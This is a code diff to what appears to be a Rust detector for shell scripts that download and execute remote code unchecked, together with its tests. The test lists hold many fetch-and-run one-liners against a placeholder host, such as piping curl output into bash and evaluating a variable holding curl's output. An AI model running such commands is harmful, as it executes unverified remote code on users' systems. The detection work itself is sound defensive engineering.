@@ -173,14 +173,17 @@ fn fed_by<'s>(script: &'s Script, index: usize, command: &'s Command) -> Option<
     }
     let interprets = is_shell(name)
         || ["python", "perl", "ruby", "node", "php"].iter().any(|known| name.starts_with(known));
+    let strings = || {
+        let fed = command.redirects.iter();
+        fed.filter(|redirect| matches!(redirect.operator, "<<<" | "<")).map(|redirect| &redirect.target)
+    };
     let code: Vec<&Word> = match name {
         "eval" => arguments.iter().take(1).collect(),
+        "source" | "." if arguments.first().is_some_and(|word| word.text() == "/dev/stdin") => {
+            strings().collect()
+        }
         "source" | "." => arguments.iter().take(1).collect(),
         _ if interprets => {
-            let strings = command
-                .redirects
-                .iter()
-                .filter(|redirect| redirect.operator == "<<<" || redirect.operator == "<");
             let after = arguments.iter().position(|word| {
                 let text = word.text();
                 text.starts_with('-') && !text.starts_with("--") && text.ends_with(['c', 'e'])
@@ -188,10 +191,13 @@ fn fed_by<'s>(script: &'s Script, index: usize, command: &'s Command) -> Option<
             let inline = after.and_then(|at| arguments.get(at + 1));
             let file = arguments.iter().find(|word| !word.text().starts_with('-'));
             let file = file.filter(|word| word.text().starts_with("<("));
-            strings.map(|redirect| &redirect.target).chain(inline).chain(file).collect()
+            strings().chain(inline).chain(file).collect()
         }
         _ => return None,
     };
+    if let Some(fetch) = code.iter().find_map(|word| kept_in_variable(script, index, word)) {
+        return Some(fetch);
+    }
     let begins =
         |word: &&&Word| matches!(word.parts().first(), Some(Part::Substitution { at }) if at.start == 0);
     let ranges: Vec<_> = code.iter().filter(begins).map(|word| word.range.clone()).collect();
@@ -200,6 +206,22 @@ fn fed_by<'s>(script: &'s Script, index: usize, command: &'s Command) -> Option<
         .filter(|(kind, _)| *kind != Nesting::Code)
         .map(|(_, child)| child)
         .find(|child| fetches(child) && ranges.iter().any(|range| range.contains(&child.range.start)))
+}
+
+/// The command that fetches what this word, a variable alone, was set to before: `X=$(curl …); eval "$X"`.
+fn kept_in_variable<'s>(script: &'s Script, before: usize, word: &Word) -> Option<&'s Command> {
+    let [Part::Variable { name, at }] = word.parts() else { return None };
+    if at.start != 0 {
+        return None;
+    }
+    let (setter, assignment) =
+        script.commands.iter().enumerate().take(before).rev().find_map(|(at, command)| {
+            let set = command.assignments.iter().rev().find(|assignment| assignment.name == *name)?;
+            Some((at, set))
+        })?;
+    let starts = matches!(assignment.value.parts().first(), Some(Part::Substitution { at }) if at.start == 0);
+    let fetched = script.children(setter).map(|(_, child)| child).find(|child| fetches(child));
+    fetched.filter(|_| starts)
 }
 
 /// True when the script checks a checksum or a signature.
@@ -241,7 +263,9 @@ fn downloaded<'s>(
     let first = command.words.get(command.words.len().checked_sub(arguments.len() + 1)?)?;
     let interprets =
         is_shell(name) || ["python", "perl", "ruby", "php"].iter().any(|known| name.starts_with(known));
-    let file = if interprets {
+    let file = if matches!(name, "source" | ".") {
+        arguments.first()?
+    } else if interprets {
         arguments.iter().find(|word| !word.text().starts_with('-'))?
     } else if first.text().contains('/') {
         first
@@ -326,6 +350,18 @@ mod tests {
             "curl https://x.example/i > i.sh; sh ./i.sh",
             "curl -O https://x.example/i.py && python3 i.py",
             "wget -q https://x.example/M.sh -O /tmp/m.sh && /bin/bash /tmp/m.sh -b",
+            "source /dev/stdin <<< \"$(curl -s https://x.example/i)\"",
+            "X=$(curl -s https://x.example/i) && eval \"$X\"",
+            "S=\"$(curl -s https://x.example/i)\"; bash -c \"$S\"",
+            "curl -o i.sh https://x.example/i && source ./i.sh",
+            "wget -qO /tmp/i.sh https://x.example/i && . /tmp/i.sh",
+            "set -o pipefail; curl https://x.example/i | bash -o pipefail -s -- -y",
+            "curl -sS https://x.example/i | php -- --install-dir=/usr/bin",
+            "curl https://x.example/i | sed s/a/b/ | tee log | bash",
+            "(curl https://x.example/i || wget -qO- https://x.example/i) | sh",
+            "for i in 1 2 3; do curl https://x.example/i | sh && break; done",
+            "<<EOF\ncurl https://x.example/i | sh\nEOF",
+            "[\"sh\", \"-c\", \"curl https://x.example/i | sh\"]",
         ] {
             assert_eq!(of(run), 1, "{run}");
         }
@@ -345,6 +381,15 @@ mod tests {
             "curl -o i.sh https://x.example/i && sha256sum -c s && sh i.sh",
             "curl -o a.tgz https://x.example/a.tgz && tar xf a.tgz && ./configure",
             "V=$(curl https://x.example/v) && bash build.sh",
+            "V=$(curl https://x.example/v) && bash build.sh \"$V\"",
+            "V=$(curl https://x.example/v) && V=1 && eval \"$V\"",
+            "X=a-$(curl https://x.example/v) && eval \"$X\"",
+            "echo 'curl https://x.example/i | sh'",
+            "curl https://x.example/i | docker load",
+            "curl https://x.example/i | tee /etc/x",
+            "curl -o i.sh https://x.example/i && gpg --verify i.asc i.sh && . ./i.sh",
+            "sh -c \"echo $(curl https://x.example/v)\"",
+            "curl https://x.example/i && sh -c 'echo hi'",
         ] {
             assert_eq!(of(run), 0, "{run}");
         }
